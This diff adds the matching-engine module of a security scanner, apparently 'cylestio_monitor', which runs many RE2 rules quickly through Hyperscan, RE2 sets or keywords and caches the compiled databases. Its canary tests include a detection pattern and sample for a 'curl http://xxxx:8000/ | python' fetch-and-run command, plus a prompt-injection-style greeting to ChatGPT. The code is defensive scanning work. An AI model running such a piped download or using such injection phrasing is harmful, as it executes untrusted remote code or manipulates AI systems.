@@ -1,0 +1,689 @@
+"""Matching engines behind :class:`~cylestio_monitor.security.scanner.Scanner` (private).
+
+Every engine returns exactly what the *reference* does: each rule's RE2 regex run over the
+whole text (``finditer`` from offset 0), its ``value`` group, then the rule's allow-list and
+validators. The engines differ only in how they avoid running 200+ regexes over every text:
+
+``hyperscan`` (default where the wheel exists)
+    One Hyperscan database of every rule (and every score cue), each expression in
+    *single-match* mode: one pass over the text reports which rules match and, for each, the
+    end offset ``to`` of its first match. RE2 then runs only for those rules, and only from
+    ``to - W`` (``W`` = the rule's maximum match width, when it is bounded), which cannot skip
+    a match: the leftmost RE2 match ends at or after ``to`` and is at most ``W`` long.
+
+    Hyperscan scans bytes, RE2 code points. So Hyperscan scans a *folded* copy of the text
+    with one byte per code point (ASCII as is, every other code point ``0xFF``) and its
+    expressions are rewritten to match (non-ASCII characters in a pattern become ``\\xff``,
+    and are dropped from negated classes). On that copy every RE2 match is also a Hyperscan
+    match of the rewritten expression with the same code-point span, so Hyperscan offsets are
+    code-point offsets and a rule Hyperscan does not report cannot match. Two cases fall
+    outside and use the reference: texts that are not valid UTF-8 (lone surrogates) and
+    texts with U+212A KELVIN SIGN or U+017F LONG S, which RE2 case-folds to ASCII ``k``/``s``.
+
+    Expressions Hyperscan cannot compile exactly are compiled in pre-filter mode (a superset,
+    same guarantee); ones it cannot compile at all run RE2 on every text. The compiled
+    database is cached on disk (see :func:`cache_dir`), keyed by the expressions, the
+    Hyperscan version and the CPU, so only the first process on a machine pays the compile.
+
+``re2set``
+    One RE2 ``Set`` tells which rules match; those run RE2 over the whole text.
+
+``keywords``
+    Rules whose lower-case keywords occur (or that have none) run RE2 over the whole text.
+    Keywords are documentation, not a guarantee: this engine can miss matches.
+
+``re2``
+    The reference: every rule, every text.
+"""
+
+from __future__ import annotations
+
+import codecs
+import hashlib
+import json
+import logging
+import os
+import sys
+import threading
+import warnings
+from pathlib import Path
+from typing import Any, Dict, List, Optional, Sequence, Set, Tuple
+
+import re2
+
+from ._rules import Rule
+
+__all__ = ["ENGINES", "Raw", "cache_dir", "make_engine"]
+
+ENGINES = ("hyperscan", "re2set", "keywords", "re2")
+
+# (start, end) in code points, the rule, its index in the engine's rule list
+Raw = Tuple[int, int, Rule, int]
+
+_FORMAT = "cylestio-hs-1"  # bump when the expression rewriting or the cache layout changes
+_NULL = (-1, -1)
+
+try:  # the C++ object behind re2.compile(): one call per search, no generator per match
+    _UNANCHORED: Any = re2._re2.RE2.Anchor.UNANCHORED  # type: ignore[attr-defined]
+except AttributeError:  # pragma: no cover - another google-re2 layout
+    _UNANCHORED = None
+
+
+def _raw_match(rx: Any) -> Any:
+    """``rx``'s C++ ``Match(anchor, data, pos, endpos) -> spans`` or ``None`` if unavailable."""
+    inner = getattr(rx, "_regexp", None)
+    if _UNANCHORED is None or inner is None or not hasattr(inner, "Match"):
+        return None  # pragma: no cover
+    return inner.Match
+
+
+def _compile(pattern: str, what: str) -> Any:
+    try:
+        return re2.compile(pattern.encode())
+    except re2.error as exc:
+        raise ValueError(f"{what}: invalid RE2 pattern: {exc}") from None
+
+
+class _Compiled:
+    """A rule's RE2 program, its ``value`` group and the fast search entry point."""
+
+    __slots__ = ("group", "match", "rule", "rx")
+
+    def __init__(self, rule: Rule) -> None:
+        self.rule = rule
+        self.rx = _compile(rule.pattern, f"rule {rule.id!r}")
+        self.group = self.rx.groupindex.get(b"value", 0)
+        self.match = _raw_match(self.rx)
+
+
+# -- the reference semantics ------------------------------------------------------------------
+
+
+def _accepted_full(c: _Compiled, index: int, text: str, data: bytes, ascii_only: bool, out: List[Raw]) -> None:
+    """Append rule ``c``'s accepted matches over all of ``data`` (the reference, public re2 API)."""
+    rule, group = c.rule, c.group
+    for m in c.rx.finditer(data):
+        bs, be = m.start(group), m.end(group)
+        if bs < 0 or be <= bs:
+            continue
+        if ascii_only:
+            s, e = bs, be
+        else:
+            s = len(data[:bs].decode("utf-8", "ignore"))
+            e = s + len(data[bs:be].decode("utf-8", "ignore"))
+        if rule.accepts(text[s:e]):
+            out.append((s, e, rule, index))
+
+
+class _Engine:
+    """Base: compiled rules and extra patterns (score cues)."""
+
+    name = "re2"
+
+    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
+        self.rules = tuple(rules)
+        self.compiled = [_Compiled(r) for r in self.rules]
+        self.extra = [_compile(p, f"cue {i}") for i, p in enumerate(extra_patterns)]
+        self.extra_patterns = tuple(extra_patterns)
+
+    def candidates(self, data: bytes) -> Sequence[int]:
+        return range(len(self.compiled))
+
+    def scan(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
+        """Accepted matches of every rule, and the extra patterns present (``None``: not computed)."""
+        data = text.encode("utf-8", "surrogatepass")
+        ascii_only = len(data) == len(text)
+        out: List[Raw] = []
+        compiled = self.compiled
+        for i in self.candidates(data):
+            _accepted_full(compiled[i], i, text, data, ascii_only, out)
+        return out, None
+
+    def extra_present(self, text: str) -> List[int]:
+        """The extra patterns that match ``text`` (reference: each searched over the whole text)."""
+        data = text.encode("utf-8", "surrogatepass")
+        return [i for i, rx in enumerate(self.extra) if rx.search(data) is not None]
+
+
+class ReferenceEngine(_Engine):
+    """Every rule's RE2 over the full text: the definition the fast engines must equal."""
+
+    name = "re2"
+
+
+class Re2SetEngine(_Engine):
+    name = "re2set"
+
+    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
+        super().__init__(rules, extra_patterns)
+        opts = re2.Options()
+        opts.max_mem = 256 << 20
+        self._set = re2.Set.SearchSet(opts)
+        for r in self.rules:
+            self._set.Add(r.pattern.encode())
+        self._set.Compile()
+        self._all = list(range(len(self.rules)))
+
+    def candidates(self, data: bytes) -> Sequence[int]:
+        hits = self._set.Match(data)
+        # None = the DFA ran out of memory on this text: confirm every rule (still linear)
+        return self._all if hits is None else sorted(hits)
+
+
+class KeywordsEngine(_Engine):
+    """Pre-filter on lower-case keywords only (rules without keywords always run). Not exact."""
+
+    name = "keywords"
+
+    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
+        super().__init__(rules, extra_patterns)
+        self._always = [i for i, r in enumerate(self.rules) if not r.keywords]
+        self._kw = [(i, tuple(k.encode() for k in r.keywords)) for i, r in enumerate(self.rules) if r.keywords]
+
+    def candidates(self, data: bytes) -> Sequence[int]:
+        low = data.lower()
+        out = list(self._always)
+        for i, kws in self._kw:
+            if any(k in low for k in kws):
+                out.append(i)
+        return sorted(out)
+
+
+# -- Hyperscan ----------------------------------------------------------------------------------
+
+
+def _fold_errors(exc: UnicodeError) -> Tuple[bytes, int]:
+    assert isinstance(exc, UnicodeEncodeError)
+    return b"\xff" * (exc.end - exc.start), exc.end
+
+
+codecs.register_error("cylestio.fold", _fold_errors)
+_FOLD_HIGH = bytes(range(128)) + b"\xff" * 128
+
+
+def fold(text: str) -> bytes:
+    """One byte per code point: ASCII as is, anything else ``0xFF``."""
+    return text.encode("latin-1", "cylestio.fold").translate(_FOLD_HIGH)
+
+
+class _Untranslatable(Exception):
+    pass
+
+
+_HEX = frozenset("0123456789abcdefABCDEF")
+_PERL_CLASSES = frozenset("dDsSwW")
+
+
+def _escape_cp(cp: int) -> str:
+    ch = chr(cp)
+    return ch if ch.isascii() and ch.isalnum() else f"\\x{cp:02x}"
+
+
+def _read_escape(p: str, i: int) -> Tuple[Optional[int], str, int]:
+    """Parse the escape at ``p[i] == '\\\\'``: (code point or None for a class/assertion, raw text, next index)."""
+    if i + 1 >= len(p):
+        raise _Untranslatable("trailing backslash")
+    d = p[i + 1]
+    if d == "x":
+        if i + 2 < len(p) and p[i + 2] == "{":
+            j = p.index("}", i + 3)
+            return int(p[i + 3 : j], 16), p[i : j + 1], j + 1
+        h = p[i + 2 : i + 4]
+        if len(h) != 2 or not set(h) <= _HEX:
+            raise _Untranslatable("bad \\x escape")
+        return int(h, 16), p[i : i + 4], i + 4
+    if d in "pPCQEXRKGgkNhHVu" or d.isdigit():
+        # Unicode classes, any byte, quoting, octal/back-references, PCRE-only or RE2-only
+        # classes: no byte-level rewrite that is sure to cover RE2's meaning
+        raise _Untranslatable(f"\\{d}")
+    simple = {"n": 10, "t": 9, "r": 13, "f": 12, "v": 11, "a": 7}
+    if d in simple:
+        return simple[d], p[i : i + 2], i + 2
+    if d.isascii() and (d.isalnum() or d == "_"):
+        return None, p[i : i + 2], i + 2  # \d \w \s \b \B \A \z ...
+    return ord(d), p[i : i + 2], i + 2  # escaped punctuation (or a non-ASCII character)
+
+
+def _rewrite_class(p: str, i: int) -> Tuple[str, int]:
+    """Rewrite the character class starting at ``p[i] == '['``; returns (text, next index)."""
+    j = i + 1
+    negated = j < len(p) and p[j] == "^"
+    if negated:
+        j += 1
+    parts: List[str] = []
+    high = False  # a non-ASCII member (positive class: becomes \xff)
+    first = True
+    while True:
+        if j >= len(p):
+            raise _Untranslatable("unterminated class")
+        c = p[j]
+        if c == "]" and not first:
+            j += 1
+            break
+        first = False
+        if p.startswith("[:", j):
+            k = p.index(":]", j + 2)
+            parts.append(p[j : k + 2])
+            j = k + 2
+            continue
+        lo, raw, j = _class_atom(p, j)
+        if lo is None:  # \d \w \s and negations
+            if raw[1] not in _PERL_CLASSES:
+                raise _Untranslatable(f"{raw} in a class")
+            parts.append(raw)
+            continue
+        hi: Optional[int] = lo
+        if j + 1 < len(p) and p[j] == "-" and p[j + 1] != "]":
+            hi, _, j = _class_atom(p, j + 1)
+        if hi is None or hi < lo:
+            raise _Untranslatable("reversed range")
+        if hi < 0x80:
+            parts.append(_escape_cp(lo) if lo == hi else f"{_escape_cp(lo)}-{_escape_cp(hi)}")
+        else:
+            if lo < 0x80:
+                parts.append(f"{_escape_cp(lo)}-\\x7f")
+            high = True
+    if high and not negated:
+        parts.append("\\xff")
+    if not parts:
+        # a negated class of non-ASCII characters only: on the folded text it matches anything
+        return "[\\x00-\\xff]", j
+    return "[" + ("^" if negated else "") + "".join(parts) + "]", j
+
+
+def _class_atom(p: str, j: int) -> Tuple[Optional[int], str, int]:
+    if p[j] == "\\":
+        return _read_escape(p, j)
+    return ord(p[j]), p[j], j + 1
+
+
+def hyperscan_expression(pattern: str) -> bytes:
+    """``pattern`` (RE2) rewritten for Hyperscan over the folded text; raises ``_Untranslatable``."""
+    out: List[str] = []
+    i, n = 0, len(pattern)
+    while i < n:
+        c = pattern[i]
+        if c == "\\":
+            cp, raw, i = _read_escape(pattern, i)
+            if cp is None:
+                out.append(raw)
+            elif cp >= 0x80:
+                out.append("\\xff")
+            else:
+                out.append(_escape_cp(cp))
+        elif c == "[":
+            text, i = _rewrite_class(pattern, i)
+            out.append(text)
+        elif pattern.startswith("(?P<", i):
+            out.append("(?<")
+            i += 4
+        elif pattern.startswith("(?P=", i) or pattern.startswith("(?U", i) or pattern.startswith("(?-U", i):
+            raise _Untranslatable("back-reference or ungreedy flag")
+        elif ord(c) >= 0x80:
+            out.append("\\xff")
+            i += 1
+        else:
+            out.append(c)
+            i += 1
+    return "".join(out).encode("ascii")
+
+
+try:  # Python's own regex parser, used only on rule patterns (never on text) for widths
+    from re import _parser as _sre_parse  # type: ignore[attr-defined]
+except ImportError:  # pragma: no cover - Python < 3.11
+    import sre_parse as _sre_parse  # type: ignore[no-redef]
+
+
+def max_width(pattern: str) -> Optional[int]:
+    """Longest match of ``pattern`` in code points, or ``None`` when unbounded or unsure.
+
+    Computed by Python's regex parser, whose syntax agrees with RE2's for what rules use; the
+    constructs where they disagree in a way that could make the width too small are refused.
+    """
+    if "{," in pattern or "\\Q" in pattern or "\\C" in pattern:
+        return None  # RE2 reads "{,n}" literally, Python as {0,n}
+    try:
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            _, hi = _sre_parse.parse(pattern).getwidth()
+    except Exception:
+        return None
+    return hi if hi < 1 << 16 else None
+
+
+def cache_dir() -> Optional[Path]:
+    """Where compiled Hyperscan databases are cached (``None``: caching off).
+
+    ``CYLESTIO_CACHE_DIR`` overrides it (empty, ``0`` or ``off`` turns caching off); else the
+    user cache directory: ``$XDG_CACHE_HOME/cylestio-monitor`` (``~/.cache/...``),
+    ``~/Library/Caches/cylestio-monitor`` on macOS, ``%LOCALAPPDATA%\\cylestio-monitor`` on Windows.
+    """
+    env = os.environ.get("CYLESTIO_CACHE_DIR")
+    if env is not None:
+        env = env.strip()
+        return Path(env).expanduser() if env and env.lower() not in ("0", "off", "false", "no", "none") else None
+    home = Path.home()
+    if sys.platform == "win32":
+        base = Path(os.environ.get("LOCALAPPDATA") or home / "AppData" / "Local")
+    elif sys.platform == "darwin":
+        base = home / "Library" / "Caches"
+    else:
+        base = Path(os.environ.get("XDG_CACHE_HOME") or home / ".cache")
+    return base / "cylestio-monitor"
+
+
+def _cpu_signature() -> str:
+    try:
+        with open("/proc/cpuinfo", encoding="ascii", errors="replace") as fh:
+            for line in fh:
+                if line.startswith(("flags", "Features")):
+                    return line.split(":", 1)[1].strip()
+    except OSError:
+        pass
+    import platform
+
+    return f"{platform.machine()}|{platform.processor()}"
+
+
+def _on_match(index: int, _from: int, to: int, _flags: int, hits: Any) -> None:
+    hits.append((index, to))
+
+
+# Matches that some Hyperscan builds miss. Vectorscan 5.4.12 (bundled by the ``hyperscan``
+# wheels from 0.7.23 on, 0.9.1 included) has a double-shufti acceleration bug that silently
+# drops matches (VectorCamp/vectorscan#358, #382; fixed upstream after 5.4.12); 5.4.11
+# (``hyperscan`` <= 0.7.21) finds all of these. An engine that misses a match is not used.
+_CANARIES = (
+    (b"curl.*\\|\\s*python", 2, b"curl http://xxxx:8000/ 2>&1 | python"),  # 2 = HS_FLAG_DOTALL
+    (
+        b"(?i)(?:hi|hello|dear)\\s+(?:ai|chatgpt)[^\\n]*\\b(?:this\\s+is|run)\\b",
+        0,
+        b"Hello ChatGPTme to be real. This is",
+    ),
+)
+_canary_verdict: Dict[str, Optional[str]] = {}
+
+
+def hyperscan_defect() -> Optional[str]:
+    """``None`` when the installed Hyperscan finds the canary matches, else what it missed."""
+    import hyperscan
+
+    key = getattr(hyperscan, "__version__", "?")
+    if key not in _canary_verdict:
+        missed = []
+        for i, (expr, flags, data) in enumerate(_CANARIES):
+            db = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+            db.compile(expressions=[expr], ids=[i], elements=1, flags=flags | hyperscan.HS_FLAG_SINGLEMATCH)
+            hits: List[Tuple[int, int]] = []
+            db.scan(data, match_event_handler=_on_match, context=hits, scratch=hyperscan.Scratch(db))
+            if not hits:
+                missed.append(expr.decode())
+        _canary_verdict[key] = (
+            f"hyperscan {key} misses matches of {missed} (a Vectorscan 5.4.12 defect); "
+            "install hyperscan<0.7.22 (Vectorscan 5.4.11)"
+            if missed
+            else None
+        )
+    return _canary_verdict[key]
+
+
+class HyperscanEngine(_Engine):
+    """See the module docstring. Thread-safe: one Hyperscan scratch per thread."""
+
+    name = "hyperscan"
+
+    def __init__(
+        self,
+        rules: Sequence[Rule],
+        extra_patterns: Sequence[str] = (),
+        *,
+        cache: Optional[Path] = None,
+        use_cache: bool = True,
+    ) -> None:
+        import hyperscan
+
+        super().__init__(rules, extra_patterns)
+        self._hs = hyperscan
+        patterns = [r.pattern for r in self.rules] + list(self.extra_patterns)
+        n_rules = len(self.rules)
+        # per expression: (kind 0 rule / 1 extra, index, compiled, max width)
+        self._meta: List[Tuple[int, int, Any, Optional[int]]] = []
+        exprs: List[bytes] = []
+        ids: List[int] = []
+        always: List[int] = []  # expressions Hyperscan cannot take: RE2 on every text
+        for k, p in enumerate(patterns):
+            comp = self.compiled[k] if k < n_rules else self.extra[k - n_rules]
+            self._meta.append((0 if k < n_rules else 1, k if k < n_rules else k - n_rules, comp, max_width(p)))
+            try:
+                exprs.append(hyperscan_expression(p))
+                ids.append(k)
+            except (_Untranslatable, ValueError):
+                always.append(k)
+        base = hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_ALLOWEMPTY
+        flags = [base] * len(exprs)
+        self.cache_path: Optional[Path] = None
+        self.from_cache = False
+        db = None
+        where = (cache or cache_dir()) if use_cache else None
+        if where is not None:
+            key = hashlib.sha256(
+                json.dumps(
+                    [
+                        _FORMAT,
+                        getattr(hyperscan, "__version__", ""),
+                        getattr(getattr(hyperscan, "_hs_ext", None), "__version__", ""),
+                        _cpu_signature(),
+                        [e.decode() for e in exprs],
+                        flags,
+                    ]
+                ).encode()
+            ).hexdigest()
+            self.cache_path = where / f"hs-{key[:40]}.db"
+            loaded = self._load(self.cache_path)
+            if loaded is not None:
+                db, ids, flags, extra_always = loaded
+                always = sorted(set(always) | set(extra_always))
+                self.from_cache = True
+        if db is None:
+            db, ids, flags, extra_always = self._compile(exprs, ids, flags)
+            always = sorted(set(always) | set(extra_always))
+            if self.cache_path is not None and db is not None:
+                self._store(self.cache_path, db, ids, flags, extra_always)
+        self._db = db
+        self._always = always
+        self.prefilter_ids = [i for i, f in zip(ids, flags) if f & hyperscan.HS_FLAG_PREFILTER]
+        self._local = threading.local()
+        self._scratch0 = hyperscan.Scratch(db) if db is not None else None
+
+    # -- build ----------------------------------------------------------------------------
+    def _compile(
+        self, exprs: List[bytes], ids: List[int], flags: List[int]
+    ) -> Tuple[Any, List[int], List[int], List[int]]:
+        hs = self._hs
+        dropped: List[int] = []
+        if not exprs:  # nothing Hyperscan can take
+            return None, ids, flags, dropped
+        try:
+            return self._build(exprs, ids, flags), ids, flags, dropped
+        except hs.error:
+            pass
+        # find the expressions that fail alone: pre-filter mode, else RE2 on every text
+        keep_e, keep_i, keep_f = [], [], []
+        for e, i, f in zip(exprs, ids, flags):
+            for mode in (f, f | hs.HS_FLAG_PREFILTER):
+                try:
+                    self._build([e], [i], [mode])
+                except hs.error:
+                    continue
+                keep_e.append(e)
+                keep_i.append(i)
+                keep_f.append(mode)
+                break
+            else:
+                dropped.append(i)
+        return self._build(keep_e, keep_i, keep_f), keep_i, keep_f, dropped
+
+    def _build(self, exprs: List[bytes], ids: List[int], flags: List[int]) -> Any:
+        db = self._hs.Database(mode=self._hs.HS_MODE_BLOCK)
+        db.compile(expressions=exprs, ids=ids, elements=len(exprs), flags=flags)
+        return db
+
+    def _load(self, path: Path) -> Optional[Tuple[Any, List[int], List[int], List[int]]]:
+        try:
+            blob = path.read_bytes()
+            head, _, body = blob.partition(b"\n")
+            meta = json.loads(head)
+            if meta.get("format") != _FORMAT or hashlib.sha256(body).hexdigest() != meta.get("sha256"):
+                return None
+            db = self._hs.loadb(body, self._hs.HS_MODE_BLOCK)
+            return db, list(meta["ids"]), list(meta["flags"]), list(meta["always"])
+        except (OSError, ValueError, KeyError, TypeError, self._hs.error):
+            return None
+
+    def _store(self, path: Path, db: Any, ids: List[int], flags: List[int], always: List[int]) -> None:
+        try:
+            body = self._hs.dumpb(db)
+            digest = hashlib.sha256(body).hexdigest()
+            head = json.dumps({"format": _FORMAT, "sha256": digest, "ids": ids, "flags": flags, "always": always})
+            path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
+            tmp = path.with_name(f".{path.name}.{os.getpid()}.{threading.get_ident()}.tmp")
+            tmp.write_bytes(head.encode() + b"\n" + body)
+            os.replace(tmp, path)
+        except (OSError, self._hs.error):
+            pass  # a read-only or full disk only costs the next process a compile
+
+    # -- scan -----------------------------------------------------------------------------
+    def _scratch(self) -> Any:
+        scratch = getattr(self._local, "scratch", None)
+        if scratch is None:
+            assert self._scratch0 is not None
+            scratch = self._local.scratch = self._scratch0.clone()
+        return scratch
+
+    def scan(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
+        if text.isascii():
+            data = text.encode("ascii")
+            folded = data
+            ascii_only = True
+        else:
+            if "\u212a" in text or "\u017f" in text:
+                return self._reference(text)
+            try:
+                data = text.encode("utf-8")
+            except UnicodeEncodeError:  # lone surrogates
+                return self._reference(text)
+            folded = fold(text)
+            ascii_only = False
+        hits: List[Tuple[int, int]] = []
+        if self._db is not None:
+            self._db.scan(folded, match_event_handler=_on_match, context=hits, scratch=self._scratch())
+        for k in self._always:
+            hits.append((k, 0))
+        out: List[Raw] = []
+        present: List[int] = []
+        if not hits:
+            return out, present
+        n = len(data)
+        byte_spans: List[Tuple[int, int, _Compiled, int]] = []
+        meta = self._meta
+        for k, to in hits:
+            kind, index, comp, width = meta[k]
+            # the leftmost match ends at or after `to` and is at most `width` code points long
+            pos = to - width if width is not None and to > width else 0
+            if pos and not ascii_only:
+                pos = len(text[:pos].encode("utf-8"))
+            if kind:
+                if comp.search(data, pos) is not None:
+                    present.append(index)
+                continue
+            match = comp.match
+            group = comp.group
+            if match is None:  # pragma: no cover - public API fallback
+                for m in comp.rx.finditer(data, pos):
+                    bs, be = m.start(group), m.end(group)
+                    if 0 <= bs < be:
+                        byte_spans.append((bs, be, comp, index))
+                continue
+            while True:  # re2's finditer, one C++ call per match
+                spans = match(_UNANCHORED, data, pos, n)
+                whole = spans[0]
+                if whole == _NULL:
+                    break
+                bs, be = spans[group]
+                if 0 <= bs < be:
+                    byte_spans.append((bs, be, comp, index))
+                end = whole[1]
+                if pos == n:
+                    break
+                pos = pos + 1 if pos == end else end
+        if ascii_only:
+            for bs, be, comp, index in byte_spans:
+                if comp.rule.accepts(text[bs:be]):
+                    out.append((bs, be, comp.rule, index))
+        elif byte_spans:
+            for s, e, comp, index in _to_code_points(data, byte_spans):
+                if comp.rule.accepts(text[s:e]):
+                    out.append((s, e, comp.rule, index))
+        present.sort()
+        return out, present
+
+    def _reference(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
+        data = text.encode("utf-8", "surrogatepass")
+        ascii_only = len(data) == len(text)
+        out: List[Raw] = []
+        for i, c in enumerate(self.compiled):
+            _accepted_full(c, i, text, data, ascii_only, out)
+        return out, None
+
+
+_warned: Set[str] = set()
+
+
+def _warn_once(message: str) -> None:
+    if message not in _warned:
+        _warned.add(message)
+        logging.getLogger("cylestio_monitor.security").warning(message)
+
+
+def _to_code_points(data: bytes, spans: List[Tuple[int, int, Any, int]]) -> List[Tuple[int, int, Any, int]]:
+    """Byte spans of valid UTF-8 ``data`` to code-point spans, in one pass over the data."""
+    offsets = sorted({o for s, e, _, _ in spans for o in (s, e)})
+    where: Dict[int, int] = {}
+    last_b = last_c = 0
+    try:
+        for o in offsets:
+            last_c += len(data[last_b:o].decode("utf-8"))
+            last_b = o
+            where[o] = last_c
+    except UnicodeDecodeError:  # an offset inside a character (a \\C pattern): as the reference does
+        out = []
+        for s, e, c, i in spans:
+            cs = len(data[:s].decode("utf-8", "ignore"))
+            out.append((cs, cs + len(data[s:e].decode("utf-8", "ignore")), c, i))
+        return out
+    return [(where[s], where[e], c, i) for s, e, c, i in spans]
+
+
+def make_engine(engine: str, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> _Engine:
+    """Build engine ``engine`` (``auto``: Hyperscan when installed and sound, else the RE2 ``Set``)."""
+    if engine == "auto":
+        try:
+            defect = hyperscan_defect()
+        except ImportError:
+            return Re2SetEngine(rules, extra_patterns)
+        if defect is not None:
+            _warn_once(defect + "; using the slower RE2 engine")
+            return Re2SetEngine(rules, extra_patterns)
+        return HyperscanEngine(rules, extra_patterns)
+    if engine == "hyperscan":
+        defect = hyperscan_defect()
+        if defect is not None:
+            _warn_once(defect + "; findings may be missed")
+        return HyperscanEngine(rules, extra_patterns)
+    if engine == "re2set":
+        return Re2SetEngine(rules, extra_patterns)
+    if engine == "keywords":
+        return KeywordsEngine(rules, extra_patterns)
+    if engine == "re2":
+        return ReferenceEngine(rules, extra_patterns)
+    raise ValueError(f"unknown engine {engine!r}; expected 'auto' or one of {ENGINES}")
